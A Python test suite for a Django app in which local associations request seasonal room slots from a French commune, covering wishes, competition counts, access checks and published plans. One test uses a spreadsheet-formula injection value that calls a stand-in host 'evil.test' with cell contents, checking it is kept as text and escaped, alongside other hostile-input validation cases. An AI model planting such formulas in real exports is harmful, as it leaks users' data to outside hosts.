"""The structures' season pages: the open campaigns, a structure's wishes (submit, withdraw,
renew), the competition each choice meets (counts, never names), refusals in French."""

import re
from datetime import date

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from bookings import ics
from bookings.models import Booking, BookingStatus, CalendarFeed, Frequency
from seasons import services
from seasons.models import PlanAssignment, Wish, WishOption, WishStatus
from seasons.selectors import wish_competition, wishes_competition
from tests.factories import MembershipFactory, StructureFactory, paris
from tests.seasons.conftest import DEADLINE, submit, tuesday

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("frozen_clock")]


@pytest.fixture
def member(client, applicant):
    client.force_login(applicant)
    return client


def campaign_url(campaign, structure) -> str:
    return reverse("seasons:apply-campaign", args=[campaign.pk, structure.pk])


def wish_url(campaign, structure) -> str:
    return reverse("seasons:wish-create", args=[campaign.pk, structure.pk])


def wish_data(hall, small_room, **extra) -> dict:
    """A wish for the hall on Tuesday 18:00–20:00, the small room as the alternative."""
    return {
        "rank": "1",
        "attendees": "10",
        "purpose": "Judo enfants",
        "activity": "sport",
        "period": "year",
        "option-1-weekday": "1",
        "option-1-start": "18:00",
        "option-1-end": "20:00",
        "option-1-place": f"space:{hall.pk}",
        "option-2-weekday": "1",
        "option-2-start": "18:00",
        "option-2-end": "20:00",
        "option-2-place": "kind:meeting_room",
        **extra,
    }


def text(response) -> str:
    return re.sub(r"\s+", " ", response.content.decode())


def test_season_list_shows_the_open_campaign_its_deadline_spaces_and_rules_in_french(
    member, campaign
):
    response = member.get(reverse("seasons:apply-list"))

    page = text(response)
    assert response.status_code == 200
    assert "Saison 2027–2028" in page
    assert "Salle A" in page
    assert "Salle B" in page
    assert "31 mars 2027, 12:00" in page
    assert "Chaque structure obtient au plus 4 heures par semaine." in page
    assert "Les structures de la commune passent d’abord" in page


def test_campaign_link_goes_straight_to_the_only_structure(member, campaign, applicant_structure):
    response = member.get(reverse("seasons:apply-structures", args=[campaign.pk]))

    assert response.status_code == 302
    assert response.url == campaign_url(campaign, applicant_structure)


def test_member_submits_a_wish_and_sees_it_with_its_competition_counted_without_names(
    member, campaign, hall, small_room, applicant_structure, rival, rival_structure
):
    submit(campaign, rival, rival_structure, tuesday(hall, 19, 21), purpose="Chorale secrète")

    response = member.post(wish_url(campaign, applicant_structure), wish_data(hall, small_room))

    wish = Wish.objects.get(structure=applicant_structure)
    assert response.status_code == 302
    assert response.url == f"{campaign_url(campaign, applicant_structure)}#voeu-{wish.pk}"
    assert list(wish.options.values_list("position", "space", "space_kind")) == [
        (1, hall.pk, ""),
        (2, None, "meeting_room"),
    ]
    page = text(member.get(campaign_url(campaign, applicant_structure)))
    assert "Vœu n° 1 : Judo enfants" in page
    assert "1 autre demande sur ce créneau" in page  # the hall: the rival's wish
    assert "aucune autre demande sur ce créneau" in page  # any meeting room
    assert "Chorale" not in page
    assert "Chorale secrète" not in page


def test_wish_detail_counts_the_same_as_the_competition_selector(
    member, campaign, hall, small_room, applicant, applicant_structure, rival, rival_structure
):
    mine = submit(campaign, applicant, applicant_structure, tuesday(hall), tuesday(small_room))
    submit(campaign, rival, rival_structure, tuesday(kind="hall", start=19, end=21))
    submit(campaign, rival, rival_structure, tuesday(small_room, 19, 20), rank=2)

    page = text(member.get(reverse("seasons:wish-detail", args=[mine.pk])))

    assert wish_competition(mine) == {1: 1, 2: 1}
    assert wishes_competition(Wish.objects.filter(pk=mine.pk)) == {mine.pk: {1: 1, 2: 1}}
    assert page.count("1 autre demande sur ce créneau") == 2
    assert "Chorale" not in page


def test_live_competition_partial_counts_the_typed_choice(
    member, campaign, hall, small_room, rival, rival_structure
):
    submit(campaign, rival, rival_structure, tuesday(hall, 19, 21))
    submit(campaign, rival, rival_structure, tuesday(hall, 18, 19), rank=2)
    params = {k: v for k, v in wish_data(hall, small_room).items() if k.startswith("option-")}

    response = member.get(reverse("seasons:wish-competition", args=[campaign.pk]), params)

    page = text(response)
    assert response.status_code == 200
    assert '<p data-competition="1">2 autres demandes sur ce créneau</p>' in page
    assert '<p data-competition="2">aucune autre demande sur ce créneau</p>' in page
    assert '<p data-competition="3"></p>' in page


def test_the_form_works_without_javascript_and_names_each_choice(
    member, campaign, applicant_structure
):
    response = member.get(wish_url(campaign, applicant_structure))

    page = text(response)
    assert response.status_code == 200
    for legend in ("Premier choix", "Alternative n° 1", "Alternative n° 2", "Alternative n° 3"):
        assert f"<legend>{legend}" in page
    assert 'method="post"' in page
    assert 'type="submit"' in page
    assert '<label for="id_option-4-place">' in page


def test_member_withdraws_a_wish(member, campaign, hall, applicant, applicant_structure):
    wish = submit(campaign, applicant, applicant_structure, tuesday(hall))

    response = member.post(reverse("seasons:wish-withdraw", args=[wish.pk]))

    wish.refresh_from_db()
    assert response.status_code == 302
    assert wish.status == WishStatus.WITHDRAWN
    assert "Votre vœu est retiré." in text(member.get(response.url))


def test_renew_adds_last_years_weekly_slot_once(
    member, campaign, hall, applicant, applicant_structure
):
    Booking.objects.create(
        space=hall,
        organisation=applicant_structure,
        requested_by=applicant,
        purpose="Judo enfants",
        attendees=15,
        status=BookingStatus.CONFIRMED,
        start=paris(2026, 9, 8, 18),
        end=paris(2026, 9, 8, 20),
        frequency=Frequency.WEEKLY,
        repeat_until=paris(2027, 6, 29).date(),
    )
    url = reverse("seasons:wishes-renew", args=[campaign.pk, applicant_structure.pk])

    first = member.post(url, follow=True)
    second = member.post(url, follow=True)

    assert Wish.objects.filter(structure=applicant_structure).count() == 1
    assert "1 vœu a été ajouté" in text(first)
    assert "Aucun créneau de l’an dernier à ajouter" in text(second)


def test_another_structures_member_gets_404_on_the_wish_and_its_withdrawal(
    client, campaign, hall, applicant, applicant_structure, rival
):
    wish = submit(campaign, applicant, applicant_structure, tuesday(hall))
    client.force_login(rival)

    for response in (
        client.get(reverse("seasons:wish-detail", args=[wish.pk])),
        client.post(reverse("seasons:wish-withdraw", args=[wish.pk])),
        client.get(campaign_url(campaign, applicant_structure)),
        client.post(wish_url(campaign, applicant_structure), {}),
    ):
        assert response.status_code == 404
    wish.refresh_from_db()
    assert wish.status == WishStatus.SUBMITTED


def test_anonymous_is_sent_to_sign_in(client, campaign, hall, applicant, applicant_structure):
    wish = submit(campaign, applicant, applicant_structure, tuesday(hall))
    urls = [
        reverse("seasons:apply-list"),
        reverse("seasons:apply-structures", args=[campaign.pk]),
        campaign_url(campaign, applicant_structure),
        wish_url(campaign, applicant_structure),
        reverse("seasons:wish-detail", args=[wish.pk]),
        reverse("seasons:wish-competition", args=[campaign.pk]),
    ]

    for url in urls:
        response = client.get(url)
        assert (response.status_code, "/login/" in response.url) == (302, True), url
    response = client.post(reverse("seasons:wish-withdraw", args=[wish.pk]))
    assert response.status_code == 302
    assert "/login/" in response.url


def test_an_unverified_structure_is_refused_in_french(client, campaign, hall, small_room):
    structure = StructureFactory(name="Pas encore vérifiée")
    client.force_login(MembershipFactory(organisation=structure).user)

    responses = [
        client.get(reverse("seasons:apply-structures", args=[campaign.pk])),
        client.get(campaign_url(campaign, structure)),
        client.post(wish_url(campaign, structure), wish_data(hall, small_room)),
    ]

    for response in responses:
        assert response.status_code == 403
        assert "Votre structure n’est pas encore vérifiée" in text(response)
    assert not Wish.objects.exists()


HOSTILE = [
    ({"purpose": "Judo\x00\x1b[31m"}, "Judo"),
    ({"attendees": str(10**20)}, "inférieure ou égale à 100000"),
    ({"option-5-weekday": "1", "option-5-start": "18:00"}, "au plus 3 autres choix"),
    ({"option-1-start": "20:00", "option-1-end": "18:00"}, "La fin doit suivre le début."),
    ({"option-2-start": ""}, "Remplissez tout le choix, ou laissez-le vide."),
    ({"option-1-place": "space:999999"}, "Sélectionnez un choix valide"),
    ({"option-1-start": "14:00"}, "Cette campagne donne au plus 4 heures par semaine"),
    ({"option-1-weekday": "9"}, "Sélectionnez un choix valide"),
    ({"rank": "0", "option-3-weekday": "2"}, "supérieure ou égale à 1"),
]


@pytest.mark.parametrize(("changes", "message"), HOSTILE)
def test_hostile_or_unfit_input_is_refused_in_french_and_nothing_is_saved(
    member, campaign, hall, small_room, applicant_structure, changes, message
):
    data = wish_data(hall, small_room, **changes)

    response = member.post(wish_url(campaign, applicant_structure), data)

    page = text(response)
    assert response.status_code == 400
    assert "Le formulaire comporte des erreurs" in page
    if message is not None:
        assert message in page
    assert not Wish.objects.exists()
    assert not WishOption.objects.exists()
    # What was typed stays.
    assert 'value="20:00"' in page or 'value="18:00"' in page


def test_a_service_error_is_shown_on_the_choice_it_concerns(
    member, campaign, hall, small_room, applicant_structure
):
    data = wish_data(hall, small_room, **{"option-2-place": f"space:{hall.pk}"})
    data["option-2-start"], data["option-2-end"] = "21:00", "23:00"  # the hall closes at 22:00

    response = member.post(wish_url(campaign, applicant_structure), data)

    page = text(response)
    assert response.status_code == 400
    assert (
        '<ul class="errors" id="option-2-errors"><li>Le local est fermé à cet horaire.</li></ul>'
        in page
    )
    assert 'id="option-1-errors"' not in page
    assert 'value="Judo enfants"' in page


def test_a_spreadsheet_formula_is_kept_as_text_and_shown_escaped(
    member, campaign, hall, small_room, applicant_structure
):
    purpose = '=HYPERLINK("http://evil.test/?"&A1,"<b>clic</b>")'

    member.post(
        wish_url(campaign, applicant_structure), wish_data(hall, small_room, purpose=purpose)
    )

    assert Wish.objects.get().purpose == purpose
    page = member.get(campaign_url(campaign, applicant_structure)).content.decode()
    assert "<b>clic</b>" not in page
    assert "&lt;b&gt;clic&lt;/b&gt;" in page


def test_after_the_deadline_the_page_says_so_and_the_forms_are_gone(
    member, campaign, hall, applicant, applicant_structure
):
    wish = submit(campaign, applicant, applicant_structure, tuesday(hall))

    with time_machine.travel(DEADLINE, tick=False):
        page = text(member.get(campaign_url(campaign, applicant_structure)))
        create = member.post(wish_url(campaign, applicant_structure), {})
        withdraw = member.post(reverse("seasons:wish-withdraw", args=[wish.pk]), follow=True)

    assert "La date limite (31 mars 2027, 12:00) est passée" in page
    assert reverse("seasons:wish-withdraw", args=[wish.pk]) not in page
    assert wish_url(campaign, applicant_structure) not in page
    assert create.status_code == 302
    assert "Cette campagne n’accepte pas de demandes." in text(withdraw)
    wish.refresh_from_db()
    assert wish.status == WishStatus.SUBMITTED


def _wishes(campaign, user, structure, space, count, start_rank=1):
    for rank in range(start_rank, start_rank + count):
        submit(
            campaign,
            user,
            structure,
            tuesday(space),
            tuesday(kind="hall", start=19, end=21),
            rank=rank,
        )


@pytest.mark.parametrize("name", ["campaign", "list"])
def test_query_count_does_not_grow_with_wishes(
    member,
    campaign,
    hall,
    applicant,
    applicant_structure,
    rival,
    rival_structure,
    django_assert_num_queries,
    name,
):
    _wishes(campaign, applicant, applicant_structure, hall, 1)
    _wishes(campaign, rival, rival_structure, hall, 1)
    url = (
        campaign_url(campaign, applicant_structure)
        if name == "campaign"
        else reverse("seasons:apply-list")
    )
    member.get(url)
    with CaptureQueriesContext(connection) as few:
        member.get(url)
    _wishes(campaign, applicant, applicant_structure, hall, 12, start_rank=2)
    _wishes(campaign, rival, rival_structure, hall, 12, start_rank=2)

    with django_assert_num_queries(len(few)):
        response = member.get(url)
    if name == "campaign":
        assert text(response).count("Vœu n° ") == 13


# --- After publication ---

JUNE = paris(2027, 6, 1, 9)


@pytest.fixture
def published(campaign, hall, small_room, commune_staff, applicant, applicant_structure, rival):
    """The judo club gets Salle A on Tuesdays 18:00–20:00; its second wish, the same time in the
    same room, cannot be met; the choir gets Salle B."""
    mine = submit(campaign, applicant, applicant_structure, tuesday(hall))
    submit(campaign, applicant, applicant_structure, tuesday(hall), rank=2, purpose="Judo adultes")
    rival_structure = rival.memberships.get().organisation
    submit(campaign, rival, rival_structure, tuesday(hall), tuesday(small_room))
    services.campaign_close(campaign=campaign, actor=commune_staff)
    run = services.plan_run(campaign=campaign, actor=commune_staff)
    with time_machine.travel(JUNE, tick=False):
        services.campaign_decide(
            campaign=campaign,
            actor=commune_staff,
            decided_on=date(2027, 5, 31),
            deliberation_reference="DEL-2027-042",
        )
        services.campaign_publish(campaign=campaign, actor=commune_staff)
    campaign.refresh_from_db()
    campaign.mine = run.assignments.get(wish=mine)
    return campaign


def test_after_publication_the_campaign_page_explains_the_structures_own_wishes_only(
    member, published, applicant_structure
):
    with time_machine.travel(JUNE, tick=False):
        page = text(member.get(campaign_url(published, applicant_structure)))

    assert "Le planning publié" in page
    assert page.count("<strong>Satisfait</strong>") == 1
    assert page.count("<strong>Non satisfait</strong>") == 1
    assert re.sub(r"\s+", " ", published.mine.explanation) in page
    assert "Chorale du Nord" not in page  # the choir's own wish and explanation are not shown


def test_my_slots_lists_the_series_its_dates_and_the_feed(member, published, applicant):
    with time_machine.travel(JUNE, tick=False):
        response = member.get(reverse("seasons:my-slots", args=[published.pk]))

    page = text(response)
    booking = PlanAssignment.objects.get(pk=published.mine.pk).booking
    dates = booking.occupancies.filter(active=True).count()
    feed = ics.calendar_feeds_of(user=applicant).get(scope=CalendarFeed.Scope.ORGANISATION)
    assert response.status_code == 200
    assert "Mardi 18:00–20:00, Salle A" in page
    assert booking.get_absolute_url() in page
    assert f"<dt>Dates restantes</dt><dd>{dates}</dd>" in page
    assert "Mardi 7 septembre 2027, 18:00" in page  # the first Tuesday of the school year
    assert ics.feed_url(feed) in page
    assert "Judo adultes" in page  # the unmet wish, with its explanation


def test_give_back_frees_the_dates_from_a_day_with_a_reason(member, published):
    url = reverse("seasons:slot-give-back", args=[published.mine.pk])
    with time_machine.travel(JUNE, tick=False):
        form = member.get(url)
        refused = member.post(url, {"from_date": "2028-01-01", "reason": " "})
        past = member.post(url, {"from_date": "2027-01-01", "reason": "Fin"})
        done = member.post(
            url, {"from_date": "2028-01-01", "reason": "Fin d’activité"}, follow=True
        )

    mine = PlanAssignment.objects.get(pk=published.mine.pk)
    assert form.status_code == 200
    assert (refused.status_code, past.status_code) == (400, 400)
    assert "Ce champ est obligatoire." in text(refused)
    assert "Cette date est passée" in text(past)
    assert mine.given_back_from == date(2028, 1, 1)
    assert re.search(r"Le créneau est rendu : \d+ dates sont libérées\.", text(done))


def test_another_structures_member_gets_404_on_giving_a_slot_back(client, published, rival):
    client.force_login(rival)

    with time_machine.travel(JUNE, tick=False):
        response = client.post(
            reverse("seasons:slot-give-back", args=[published.mine.pk]),
            {"from_date": "2028-01-01", "reason": "Non"},
        )

    assert response.status_code == 404
    assert PlanAssignment.objects.get(pk=published.mine.pk).given_back_from is None


def test_my_slots_query_count_does_not_grow_with_the_structures_answers(
    client, published, applicant, rival, django_assert_num_queries
):
    """The choir has one answer (met), the judo club two (one met, one not): same queries."""
    url = reverse("seasons:my-slots", args=[published.pk])
    with time_machine.travel(JUNE, tick=False):
        client.force_login(rival)
        client.get(url)
        with CaptureQueriesContext(connection) as one:
            response = client.get(url)
        assert response.status_code == 200, response
        queries = len(one)  # now: the next request resets the connection's log
        client.force_login(applicant)
        client.get(url)
        with django_assert_num_queries(queries):
            page = text(client.get(url))

    assert "Judo adultes" in page  # the unmet wish
    assert "Entraînement" in page  # the met one
